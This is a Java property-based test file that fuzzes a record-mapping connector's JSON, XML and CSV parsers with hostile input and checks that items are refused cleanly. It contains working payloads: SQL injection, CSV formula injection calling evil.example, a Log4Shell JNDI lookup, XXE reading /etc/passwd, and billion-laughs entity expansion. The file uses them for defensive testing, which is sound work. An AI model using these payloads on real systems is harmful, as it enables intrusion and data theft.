package io.atrium.connectors.common;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.sun.net.httpserver.HttpServer;
import io.atrium.resolution.model.CanonicalMessage;
import io.atrium.resolution.model.InvalidRecordException;
import io.atrium.resolution.model.PartyRecordJson;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Example;
import net.jqwik.api.Provide;
import net.jqwik.api.Tuple;
import org.apache.camel.Exchange;
import org.apache.camel.impl.DefaultCamelContext;
import org.apache.camel.support.DefaultExchange;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.opentest4j.AssertionFailedError;

import java.io.IOException;
import java.io.StringReader;
import java.net.InetSocketAddress;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.function.Supplier;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assertions.fail;

/**
 * Hostile input for every native format and for canonical lines: malformed, truncated, wrong
 * types, missing fields, random bytes, oversized (a 5 MB line or field), wrong encodings, control
 * characters, injection shapes. Whatever arrives, a mapping gives a canonical message or refuses
 * the item with {@link InvalidRecordException}, whose reason is there and quotes no personal value,
 * within a bounded time; and a valid item among hostile ones maps as it does alone.
 */
class HostileInputPropertyTest {

    /** A bound per mapping far above any real item's; a parser that loops or expands entities exceeds it. */
    private static final Duration BOUND = Duration.ofSeconds(10);
    private static final ObjectMapper JSON = new ObjectMapper();
    /** Gives the chunk of lines its exchange, as the file routes' split does; never started. */
    private static final DefaultCamelContext CAMEL = new DefaultCamelContext();
    private static final Charset GBK = Charset.forName("GBK");
    private static final String FIVE_MB = "伟".repeat(5 * 1024 * 1024 / 3);
    private static final String DEEP_ARRAY = "[".repeat(100_000) + "]".repeat(100_000);
    private static final List<String> INJECTIONS = List.of(
            "' OR '1'='1' --", "x'); DROP TABLE party_record; --", "陈美玲/* comment */", "1; SELECT pg_sleep(60)",
            "=HYPERLINK(\"http://evil.example/?\"&A1)", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "say \"\"hi\"\" \"", "line one\r\nline two", "\"unbalanced", "a,b,\"c", "<!ENTITY x SYSTEM \"file:///etc/passwd\">&x;",
            "]]><injected/>", "&xxe;", "${jndi:ldap://evil.example/a}", "%s%s%s%n", "\\u0000", "\u202Eevil\u202C", "\uD800",
            "{\"$ne\":null}");

    // ---- the properties

    @Example
    void everySampleMapsAsItIs() {
        // otherwise the properties below would hold for items that are refused anyway
        for (NativeSample sample : NativeSample.values()) {
            assertEquals(PartyRecordJson.write(sample.mapNative(sample.valid)), PartyRecordJson.write(sample.mapLive(sample.valid)));
        }
    }

    @Property(tries = 300)
    void aHostileItemIsMappedOrRefusedWithAReasonFreeOfItsPersonalValues(@ForAll("hostileItems") Hostile hostile) {
        mapsOrIsRefusedCleanly(hostile, () -> hostile.sample().mapNative(hostile.payload()));
        mapsOrIsRefusedCleanly(hostile, () -> hostile.sample().mapLive(hostile.payload()));
    }

    @Property(tries = 60)
    void aValidItemAmongHostileOnesMapsAsItDoesAlone(@ForAll("hostileRuns") HostileRun run) {
        NativeSample sample = run.sample();
        String alone = PartyRecordJson.write(sample.mapLive(sample.valid));
        if (sample.format == InputFormat.CANONICAL_JSON || sample.format == InputFormat.LEASING_CSV_ROW) {
            linesOfOneFile(run, alone);
        } else {
            for (String hostile : run.hostile()) {
                try {
                    assertTimeoutPreemptively(BOUND, () -> sample.mapLive(hostile));
                } catch (InvalidRecordException refused) {
                    // what a hostile item does with the parser must not change the next item's mapping
                }
            }
            assertEquals(alone, PartyRecordJson.write(sample.mapLive(sample.valid)));
        }
    }

    /** The lines as a file route hands them over: every line delivered or quarantined once, the valid one as alone. */
    private static void linesOfOneFile(HostileRun run, String alone) {
        List<String> lines = new ArrayList<>(run.hostile().stream().map(line -> line.replace('\n', ' ')).toList());
        lines.add(run.validAt(), run.sample().valid);
        List<CanonicalMessage> delivered = new ArrayList<>();
        List<RejectedInput> quarantined = new ArrayList<>();
        LineChunkProcessor chunk = new LineChunkProcessor("fuzz", run.sample().format, 500, 1, delivered::addAll,
                quarantined::add, message -> { });
        Exchange exchange = new DefaultExchange(CAMEL);
        exchange.getIn().setHeader(Exchange.FILE_NAME, NativeSample.EXPORT);
        exchange.setProperty(Exchange.SPLIT_INDEX, 0);
        exchange.getIn().setBody(String.join("\n", lines));
        assertTimeoutPreemptively(BOUND, () -> chunk.process(exchange));
        // no line holds a line feed here: the file routes split at them
        long items = lines.stream().filter(line -> !line.isBlank()).count();
        assertEquals(items, delivered.size() + quarantined.size(), "every line delivered or quarantined, once");
        assertTrue(delivered.stream().map(PartyRecordJson::write).anyMatch(alone::equals), "the valid line went through unchanged");
        assertEquals(quarantined.size(), quarantined.stream().map(RejectedInput::position).distinct().count(),
                "each quarantined line has its own position");
        quarantined.forEach(rejected -> assertFalse(rejected.reason() == null || rejected.reason().isBlank()));
    }

    @Example
    void theMembershipParserRefusesDoctypesSoNoEntityIsResolvedOrExpanded() throws IOException {
        Path secret = Files.createTempFile("atrium-xxe", ".txt");
        Files.writeString(secret, "SECRET-FROM-DISK");
        HttpServer server = HttpServer.create(
                new InetSocketAddress("127.0.0.1", 0), 0);
        AtomicInteger fetched = new AtomicInteger();
        server.createContext("/", exchange -> {
            fetched.incrementAndGet();
            byte[] dtd = "<!ENTITY leak \"SECRET-FROM-HTTP\">".getBytes(StandardCharsets.UTF_8);
            exchange.sendResponseHeaders(200, dtd.length);
            exchange.getResponseBody().write(dtd);
            exchange.close();
        });
        server.start();
        String url = "http://127.0.0.1:" + server.getAddress().getPort() + "/evil.dtd";
        String member = "<memberNo>M1</memberNo><name>&xxe;</name>";
        try {
            List<String> attacks = List.of(
                    "<!DOCTYPE memberEvent [<!ENTITY xxe SYSTEM \"" + secret.toUri() + "\">]>",
                    "<!DOCTYPE memberEvent [<!ENTITY xxe SYSTEM \"" + url + "\">]>",
                    "<!DOCTYPE memberEvent SYSTEM \"" + url + "\">",
                    "<!DOCTYPE memberEvent [<!ENTITY % remote SYSTEM \"" + url + "\"> %remote;]>",
                    "<!DOCTYPE memberEvent [<!ENTITY xxe \"lol\"><!ENTITY l1 \"&xxe;&xxe;&xxe;&xxe;&xxe;&xxe;&xxe;&xxe;&xxe;&xxe;\">"
                            + IntStream.rangeClosed(2, 9).mapToObj(level -> "<!ENTITY l" + level + " \""
                            + ("&l" + (level - 1) + ";").repeat(10) + "\">").collect(Collectors.joining()) + "]>");
            for (String doctype : attacks) {
                String xml = doctype + NativeSample.MEMBERSHIP_EVENT.valid.replaceFirst("<memberNo>M00012345</memberNo>\\s*<name>张伟</name>",
                        Matcher.quoteReplacement(member.replace("&xxe;", doctype.contains("l9") ? "&l9;" : "&xxe;")));
                InvalidRecordException refused = assertRefused(() -> NativeSample.MEMBERSHIP_EVENT.mapLive(xml));
                assertFalse(refused.getMessage().contains("SECRET"));
            }
            String xinclude = NativeSample.MEMBERSHIP_EVENT.valid.replace("<name>张伟</name>",
                    "<name><xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"" + secret.toUri() + "\" parse=\"text\"/></name>");
            CanonicalMessage included = assertTimeoutPreemptively(BOUND, () -> NativeSample.MEMBERSHIP_EVENT.mapLive(xinclude));
            assertFalse(PartyRecordJson.write(included).contains("SECRET"), "XInclude is not processed");
            assertEquals(0, fetched.get(), "no external DTD or entity was fetched");
        } finally {
            server.stop(0);
            Files.delete(secret);
        }
    }

    // ---- what a mapping must do with anything

    private static void mapsOrIsRefusedCleanly(Hostile hostile, Supplier<CanonicalMessage> mapping) {
        CanonicalMessage message;
        try {
            message = assertTimeoutPreemptively(BOUND, mapping::get, "mapping took longer than " + BOUND);
        } catch (InvalidRecordException refused) {
            String reason = refused.getMessage();
            assertFalse(reason == null || reason.isBlank(), "a refusal says why");
            for (String personal : hostile.personalValues()) {
                assertFalse(reason.contains(personal), () -> "the reason '" + reason + "' quotes a personal value of the item");
            }
            return;
        } catch (AssertionFailedError timedOut) {
            throw timedOut;
        } catch (RuntimeException | Error other) {
            message = fail("mapping threw " + other + " instead of refusing the item", other);
        }
        assertTrue(message != null && (message.getParty() != null || !message.getFacts().isEmpty()), "a message or a refusal");
    }

    private static InvalidRecordException assertRefused(Supplier<CanonicalMessage> mapping) {
        try {
            assertTimeoutPreemptively(BOUND, mapping::get);
        } catch (InvalidRecordException refused) {
            return refused;
        }
        return fail("the item was mapped instead of refused");
    }

    // ---- generators

    /** An item made hostile, with the personal values it carries (the sample's, and what was injected into its values). */
    record Hostile(NativeSample sample, String payload, List<String> personalValues) {
        @Override
        public String toString() {
            return sample + " (" + payload.length() + " chars): " + (payload.length() > 300 ? payload.substring(0, 300) + "..." : payload);
        }
    }

    record HostileRun(NativeSample sample, List<String> hostile, int validAt) {
        @Override
        public String toString() {
            return sample + " valid at " + validAt + " among " + hostile.stream()
                    .map(item -> item.length() > 200 ? item.substring(0, 200) + "..." : item).toList();
        }
    }

    @Provide
    Arbitrary<Hostile> hostileItems() {
        return Arbitraries.of(NativeSample.class).flatMap(HostileInputPropertyTest::hostileOf);
    }

    @Provide
    Arbitrary<HostileRun> hostileRuns() {
        return Arbitraries.of(NativeSample.class).flatMap(sample -> hostileOf(sample).map(Hostile::payload).list()
                .ofMinSize(1).ofMaxSize(5)
                .flatMap(items -> Arbitraries.integers().between(0, items.size())
                        .map(at -> new HostileRun(sample, items, at))));
    }

    private static Arbitrary<Hostile> hostileOf(NativeSample sample) {
        return Combinators.combine(Arbitraries.of(Mutation.class), texts(), Arbitraries.integers().between(0, 1 << 20))
                .as((mutation, text, seed) -> mutation.apply(sample, text, seed));
    }

    /** Texts to write into an item: random (any code point, unpaired surrogates too), control characters, injections, oversized. */
    private static Arbitrary<String> texts() {
        return Arbitraries.frequencyOf(
                Tuple.of(4, Arbitraries.strings().all().ofMaxLength(30)),
                Tuple.of(2, Arbitraries.strings().withCharRange('\u0000', '\u001f').withChars('\u007f', '\u0085')
                        .ofMinLength(1).ofMaxLength(4)),
                Tuple.of(4, Arbitraries.of(INJECTIONS)),
                Tuple.of(1, Arbitraries.just(FIVE_MB)));
    }

    /** How an item is made hostile; the seed picks where. */
    enum Mutation {
        TRUNCATED {
            @Override
            Hostile apply(NativeSample sample, String text, int seed) {
                return new Hostile(sample, sample.valid.substring(0, seed % sample.valid.length()), sample.personalValues);
            }
        },
        TEXT_INSERTED_ANYWHERE {
            @Override
            Hostile apply(NativeSample sample, String text, int seed) {
                int at = seed % (sample.valid.length() + 1);
                return hostile(sample, sample.valid.substring(0, at) + text + sample.valid.substring(at), text);
            }
        },
        VALUE_REPLACED_UNESCAPED {
            @Override
            Hostile apply(NativeSample sample, String text, int seed) {
                List<String> values = valuesOf(sample);
                return hostile(sample, sample.valid.replace(values.get(seed % values.size()), text), text);
            }
        },
        VALUE_REPLACED_ESCAPED {
            @Override
            Hostile apply(NativeSample sample, String text, int seed) {
                return hostile(sample, withValue(sample, seed, sample.asValue.apply(text), text), text);
            }
        },
        VALUE_OF_WRONG_TYPE {
            @Override
            Hostile apply(NativeSample sample, String text, int seed) {
                List<String> wrong = sample.isJson()
                        ? List.of("123", "-1.5e308", "true", "[]", "{}", "null", "[\"a\",[1]]", "{\"a\":{\"b\":[]}}", DEEP_ARRAY)
                        : List.of("", "-1", "9999999999999999999999", "1e400", "2026-13-45", "NaN", "<x/>");
                return new Hostile(sample, withValue(sample, seed, wrong.get((seed >> 8) % wrong.size()), null), sample.personalValues);
            }
        },
        FIELD_MISSING {
            @Override
            Hostile apply(NativeSample sample, String text, int seed) {
                return new Hostile(sample, withoutField(sample, seed), sample.personalValues);
            }
        },
        UTF8_READ_AS_GBK {
            @Override
            Hostile apply(NativeSample sample, String text, int seed) {
                return new Hostile(sample, new String(sample.valid.getBytes(StandardCharsets.UTF_8), GBK), sample.personalValues);
            }
        },
        GBK_READ_AS_UTF8 {
            @Override
            Hostile apply(NativeSample sample, String text, int seed) {
                return new Hostile(sample, new String(sample.valid.getBytes(GBK), StandardCharsets.UTF_8), sample.personalValues);
            }
        },
        RANDOM_BYTES {
            @Override
            Hostile apply(NativeSample sample, String text, int seed) {
                byte[] bytes = new byte[seed % 512];
                new java.util.Random(seed).nextBytes(bytes);
                Charset charset = seed % 2 == 0 ? StandardCharsets.UTF_8 : GBK;
                return new Hostile(sample, new String(bytes, charset), sample.personalValues);
            }
        },
        FIVE_MB_LINE {
            @Override
            Hostile apply(NativeSample sample, String text, int seed) {
                return new Hostile(sample, sample.valid + " ".repeat(seed % 3) + FIVE_MB, sample.personalValues);
            }
        },
        FORMAT_ATTACK {
            @Override
            Hostile apply(NativeSample sample, String text, int seed) {
                List<String> attacks = switch (sample.format) {
                    case MEMBERSHIP_XML -> List.of(
                            "<!DOCTYPE memberEvent [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>" + sample.valid.replace("张伟", "&xxe;"),
                            "<!DOCTYPE memberEvent [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\">"
                                    + "<!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\">]>" + sample.valid.replace("张伟", "&c;"),
                            "<?xml version=\"1.0\" encoding=\"GBK\"?>" + sample.valid,
                            sample.valid.replace("张伟", "<![CDATA[" + text + "]]>"),
                            "<a>".repeat(50_000) + "</a>".repeat(50_000));
                    case LEASING_CSV_ROW -> List.of(sample.valid.replace("陳美玲", "\"陳\"美玲\""),
                            sample.valid.replace("陳美玲", "\"陳美\r\n玲\""), sample.valid.replace(",", "\t"),
                            sample.valid + ",extra", "\"" + sample.valid);
                    default -> List.of(DEEP_ARRAY, "{\"a\":" + DEEP_ARRAY + "}", sample.valid.replace("{", "{\"__proto__\":{},"),
                            sample.valid + sample.valid, "\uFEFF" + sample.valid, sample.valid.replace(":", " : /* */ "));
                };
                return new Hostile(sample, attacks.get(seed % attacks.size()), sample.personalValues);
            }
        };

        abstract Hostile apply(NativeSample sample, String text, int seed);

        /** The item, whose personal values now include the text written into it. */
        private static Hostile hostile(NativeSample sample, String payload, String injected) {
            List<String> personal = new ArrayList<>(sample.personalValues);
            // a short text may be a word of any reason ("id", "name"); a longer one stands for a personal value
            if (injected != null && injected.strip().length() >= 6) {
                personal.add(injected);
            }
            return new Hostile(sample, payload, personal);
        }
    }

    // ---- the values of an item, in its format

    private static final Pattern XML_TEXT = Pattern.compile(">([^<>]+)</");

    /** The item's values as written there (text of JSON values, XML elements, CSV fields). */
    static List<String> valuesOf(NativeSample sample) {
        if (sample.isJson()) {
            List<String> values = new ArrayList<>();
            collect(tree(sample.valid), values);
            return values;
        }
        if (sample.format == InputFormat.MEMBERSHIP_XML) {
            Matcher text = XML_TEXT.matcher(sample.valid);
            List<String> values = new ArrayList<>();
            while (text.find()) {
                values.add(text.group(1));
            }
            return values;
        }
        return csvFields(sample.valid).stream().filter(field -> !field.isEmpty()).toList();
    }

    /** The item with one of its values (picked by the seed) written as given. */
    private static String withValue(NativeSample sample, int seed, String written, String text) {
        List<String> values = valuesOf(sample);
        String value = values.get(seed % values.size());
        if (sample.isJson()) {
            return sample.valid.replace(NativeSample.jsonString(value), written);
        }
        if (sample.format == InputFormat.MEMBERSHIP_XML) {
            return sample.valid.replace(">" + value + "</", ">" + written + "</");
        }
        List<String> fields = new ArrayList<>(csvFields(sample.valid));
        fields.set(fields.indexOf(value), text == null ? written : text);
        return CSVFormat.DEFAULT.format(fields.toArray());
    }

    /** The item without one of its fields (JSON member, XML element, CSV column). */
    private static String withoutField(NativeSample sample, int seed) {
        if (sample.isJson()) {
            ObjectNode item = (ObjectNode) tree(sample.valid);
            List<String> names = new ArrayList<>();
            item.fieldNames().forEachRemaining(names::add);
            item.remove(names.get(seed % names.size()));
            return item.toString();
        }
        if (sample.format == InputFormat.MEMBERSHIP_XML) {
            List<String> values = valuesOf(sample);
            return sample.valid.replaceFirst("<(\\w+)>" + Pattern.quote(values.get(seed % values.size())) + "</\\1>", "");
        }
        List<String> fields = new ArrayList<>(csvFields(sample.valid));
        fields.remove(seed % fields.size());
        return CSVFormat.DEFAULT.format(fields.toArray());
    }

    private static void collect(JsonNode node, List<String> values) {
        if (node.isTextual()) {
            values.add(node.asText());
        }
        // an object's member values and an array's elements alike
        node.forEach(child -> collect(child, values));
    }

    private static JsonNode tree(String json) {
        try {
            return JSON.readTree(json);
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
    }

    private static List<String> csvFields(String line) {
        try (var parser = CSVFormat.DEFAULT.parse(new StringReader(line))) {
            CSVRecord row = parser.getRecords().get(0);
            return row.toList();
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
    }

}
